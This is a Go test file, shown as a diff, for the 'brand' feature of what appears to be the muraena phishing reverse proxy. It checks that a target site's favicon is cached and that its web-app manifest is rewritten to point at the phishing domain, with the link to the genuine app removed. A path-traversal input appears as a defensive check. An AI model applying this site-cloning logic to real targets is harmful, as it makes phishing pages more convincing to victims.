@@ -0,0 +1,94 @@
+package proxy
+
+import (
+	"encoding/json"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"testing"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+func TestBrandTransport(t *testing.T) {
+	sess := &session.Session{Config: &session.Configuration{}}
+	sess.Config.Proxy.Brand.Enabled = true
+	sess.Config.Proxy.Brand.Paths = session.DefaultBrandPaths
+	sess.Config.Proxy.Brand.Directory = t.TempDir()
+
+	replacer := &Replacer{Phishing: "phishing.click", Target: "poor.victim"}
+	replacer.SetBackwardReplacements([]string{"www.poor.victim", "www.phishing.click"})
+
+	fetched := 0
+	upstream := roundTripperFunc(func(req *http.Request) (*http.Response, error) {
+		fetched++
+		rec := httptest.NewRecorder()
+		switch req.URL.Path {
+		case "/manifest.json":
+			rec.Header().Set("Content-Type", "application/manifest+json")
+			_, _ = rec.WriteString(`{"name": "Poor Victim", "start_url": "https://www.poor.victim/?utm_source=pwa",
+				"icons": [{"src": "https://www.poor.victim/icon-192.png", "sizes": "192x192"}],
+				"related_applications": [{"platform": "play", "id": "victim.poor.app"}],
+				"prefer_related_applications": true}`)
+		case "/favicon.ico":
+			rec.Header().Set("Content-Type", "image/x-icon")
+			_, _ = rec.WriteString("ICON")
+		default:
+			rec.WriteHeader(http.StatusNotFound)
+		}
+		resp := rec.Result()
+		resp.Request = req
+		return resp, nil
+	})
+
+	transport := &brandTransport{assets: newBrandAssets(sess), replacer: replacer, next: upstream}
+
+	get := func(path string) *http.Response {
+		req := httptest.NewRequest(http.MethodGet, "https://www.poor.victim"+path, nil)
+		resp, err := transport.RoundTrip(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return resp
+	}
+
+	for i := 0; i < 2; i++ {
+		body, _ := ioutil.ReadAll(get("/favicon.ico").Body)
+		if string(body) != "ICON" {
+			t.Errorf("favicon %q", body)
+		}
+	}
+	if fetched != 1 {
+		t.Errorf("favicon fetched %d times", fetched)
+	}
+
+	icon, err := ioutil.ReadFile(filepath.Join(sess.Config.Proxy.Brand.Directory, "www.poor.victim", "favicon.ico"))
+	if err != nil || string(icon) != "ICON" {
+		t.Errorf("favicon not persisted: %q %v", icon, err)
+	}
+
+	var manifest map[string]interface{}
+	if err := json.NewDecoder(get("/manifest.json").Body).Decode(&manifest); err != nil {
+		t.Fatal(err)
+	}
+	if manifest["start_url"] != "https://www.phishing.click/?utm_source=pwa" {
+		t.Errorf("start_url %v", manifest["start_url"])
+	}
+	if src := manifest["icons"].([]interface{})[0].(map[string]interface{})["src"]; src != "https://www.phishing.click/icon-192.png" {
+		t.Errorf("icon %v", src)
+	}
+	if _, ok := manifest["related_applications"]; ok {
+		t.Error("related applications kept")
+	}
+
+	if resp := get("/robots.txt"); resp.StatusCode != http.StatusNotFound {
+		t.Errorf("unlisted path served from the cache: %d", resp.StatusCode)
+	}
+	if resp := get("/apple-touch-icon.png"); resp.StatusCode != http.StatusNotFound || fetched != 4 {
+		t.Errorf("missing asset: %d after %d fetches", resp.StatusCode, fetched)
+	}
+	if file := transport.assets.file("../../etc", "/../x"); file != filepath.Join(sess.Config.Proxy.Brand.Directory, "etc", "x") {
+		t.Errorf("cache file %s outside of the cache directory", file)
+	}
+}